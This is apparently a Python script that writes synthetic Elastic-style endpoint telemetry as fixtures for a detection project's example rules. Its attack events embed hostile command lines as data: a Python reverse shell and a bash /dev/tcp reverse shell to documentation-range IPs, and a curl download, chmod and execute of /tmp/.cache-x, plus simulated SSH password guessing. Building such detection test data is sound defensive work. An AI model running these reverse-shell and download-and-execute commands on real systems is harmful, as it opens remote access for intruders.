#!/usr/bin/env python3
"""Writes ferret's bundled example telemetry (Elastic-Defend-shaped ECS NDJSON)
to stdout, deterministically:

    python3 examples/make_telemetry.py > examples/telemetry.ndjson

Three Linux hosts with background activity, four attacks the example rules
catch, and two near misses they must not:
  * web-01: systemd starts python3, whose shell child connects to 192.0.2.66
  * web-02: systemd starts perl, whose child connects only 25 s later (miss)
  * web-02: bash -i >& /dev/tcp/192.0.2.10/4444
  * db-01:  six failed SSH logins for postgres from 203.0.113.7, then success
  * db-01:  three failed logins from another address, then success (miss)
  * web-01: curl drops /tmp/.cache-x, chmod +x, then it runs
"""
import json, random, sys, datetime as dt

BASE = dt.datetime(2026, 11, 20, 9, 0, 0, tzinfo=dt.timezone.utc)
rng = random.Random(20261127)
events, seq, now_ms = [], 0, 0

HOSTS = {
    name: {"id": "%032x" % rng.getrandbits(128), "name": name, "ip": ip, "pid": 1000, "root": None}
    for name, ip in [("web-01", "10.0.0.11"), ("web-02", "10.0.0.12"), ("db-01", "10.0.0.21")]
}


def proc(host, parent, name, exe, args, user="root"):
    host["pid"] += rng.randint(1, 30)
    return {"pid": host["pid"], "entity_id": "%024x" % rng.getrandbits(96), "name": name,
            "executable": exe, "args": args, "user": user, "parent": parent}


for h in HOSTS.values():
    h["root"] = proc(h, None, "systemd", "/usr/lib/systemd/systemd", ["/sbin/init"])
    h["root"]["pid"] = 1


def pdoc(p):
    d = {"pid": p["pid"], "entity_id": p["entity_id"], "name": p["name"], "executable": p["executable"],
         "args": p["args"], "args_count": len(p["args"]), "command_line": " ".join(p["args"])}
    if p["parent"]:
        pp = p["parent"]
        d["parent"] = {"pid": pp["pid"], "entity_id": pp["entity_id"], "name": pp["name"],
                       "executable": pp["executable"]}
    return d


def emit(host, category, etype, action, p, extra=None, dataset=None, gap=(200, 1500)):
    global seq, now_ms
    seq += 1
    now_ms += rng.randint(*gap)
    ts = (BASE + dt.timedelta(milliseconds=now_ms)).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    ds = dataset or "endpoint.events." + category
    ev = {"@timestamp": ts,
          "event": {"id": "ex-%04d" % seq, "category": [category], "type": etype, "action": action,
                    "kind": "event", "module": "endpoint" if not dataset else "system", "dataset": ds,
                    "sequence": seq},
          "data_stream": {"type": "logs", "dataset": ds, "namespace": "default"},
          "host": {"id": host["id"], "name": host["name"], "hostname": host["name"], "ip": [host["ip"]],
                   "os": {"type": "linux", "family": "debian", "name": "Ubuntu"}},
          "process": pdoc(p), "user": {"name": p["user"]}}
    for k, v in (extra or {}).items():
        if isinstance(v, dict) and isinstance(ev.get(k), dict):
            ev[k].update(v)
        else:
            ev[k] = v
    events.append(ev)
    return ev


def benign(n):
    progs = [("ls", "/usr/bin/ls", ["ls", "-la", "/var/log"]), ("cat", "/usr/bin/cat", ["cat", "/etc/hosts"]),
             ("python3", "/usr/bin/python3.11", ["python3", "/opt/app/worker.py"]),
             ("curl", "/usr/bin/curl", ["curl", "-s", "https://api.internal.example/health"])]
    for _ in range(n):
        h = rng.choice(list(HOSTS.values()))
        parent = proc(h, h["root"], "bash", "/usr/bin/bash", ["bash"], user="alice")
        name, exe, args = rng.choice(progs)
        p = proc(h, parent, name, exe, args, user="alice")
        emit(h, "process", ["start"], "exec", p)
        if rng.random() < 0.5:
            emit(h, "network", ["start"], "connection_attempted", p,
                 {"destination": {"ip": "10.0.0.%d" % rng.randint(2, 250), "port": 443}})
        if rng.random() < 0.3:
            emit(h, "file", ["creation"], "creation", p,
                 {"file": {"path": "/tmp/tmp.%05d" % rng.randint(0, 99999), "name": "tmp"}})


def ssh(host, user, ip, outcome):
    sshd = proc(host, host["root"], "sshd", "/usr/sbin/sshd", ["sshd: %s [priv]" % user])
    return emit(host, "authentication", ["start"], "ssh_login", sshd,
                {"event": {"outcome": outcome}, "source": {"ip": ip}, "user": {"name": user}},
                dataset="system.auth", gap=(300, 900))


web1, web2, db1 = HOSTS["web-01"], HOSTS["web-02"], HOSTS["db-01"]
benign(12)
# Attack 1: backdoored unit file on web-01.
py = proc(web1, web1["root"], "python3", "/usr/bin/python3.11",
          ["python3", "-c", "import socket,pty;s=socket.socket();s.connect(('192.0.2.66',4444));pty.spawn('/bin/sh')"])
emit(web1, "process", ["start"], "exec", py)
sh = proc(web1, py, "sh", "/usr/bin/sh", ["/bin/sh"])
emit(web1, "process", ["start"], "exec", sh)
emit(web1, "network", ["start"], "connection_attempted", sh, {"destination": {"ip": "192.0.2.66", "port": 4444}})
benign(8)
# Near miss: the child of a systemd-started perl connects 25 s later.
pl = proc(web2, web2["root"], "perl", "/usr/bin/perl", ["perl", "/usr/share/debconf/frontend"])
emit(web2, "process", ["start"], "exec", pl)
child = proc(web2, pl, "sh", "/usr/bin/sh", ["sh", "-c", "apt-listchanges"])
emit(web2, "process", ["start"], "exec", child)
emit(web2, "network", ["start"], "connection_attempted", child,
     {"destination": {"ip": "198.51.100.20", "port": 80}}, gap=(25000, 25000))
benign(6)
# Attack 2: bash reverse shell on web-02.
www = proc(web2, web2["root"], "php-fpm", "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], user="www-data")
rs = proc(web2, www, "bash", "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"], user="www-data")
emit(web2, "process", ["start"], "exec", rs)
benign(6)
# Attack 3 and a near miss: password guessing on db-01.
for _ in range(3):
    ssh(db1, "root", "198.51.100.77", "failure")
ssh(db1, "root", "198.51.100.77", "success")
for _ in range(6):
    ssh(db1, "postgres", "203.0.113.7", "failure")
ssh(db1, "postgres", "203.0.113.7", "success")
benign(6)
# Attack 4: download, chmod +x, execute on web-01.
shell = proc(web1, web1["root"], "bash", "/usr/bin/bash", ["bash"], user="www-data")
curl = proc(web1, shell, "curl", "/usr/bin/curl", ["curl", "-so", "/tmp/.cache-x", "http://192.0.2.7/x"], user="www-data")
emit(web1, "process", ["start"], "exec", curl)
emit(web1, "file", ["creation"], "creation", curl, {"file": {"path": "/tmp/.cache-x", "name": ".cache-x"}})
chmod = proc(web1, shell, "chmod", "/usr/bin/chmod", ["chmod", "+x", "/tmp/.cache-x"], user="www-data")
emit(web1, "process", ["start"], "exec", chmod)
x = proc(web1, shell, ".cache-x", "/tmp/.cache-x", ["/tmp/.cache-x"], user="www-data")
emit(web1, "process", ["start"], "exec", x)
benign(10)

for ev in events:
    sys.stdout.write(json.dumps(ev, separators=(",", ":")) + "\n")
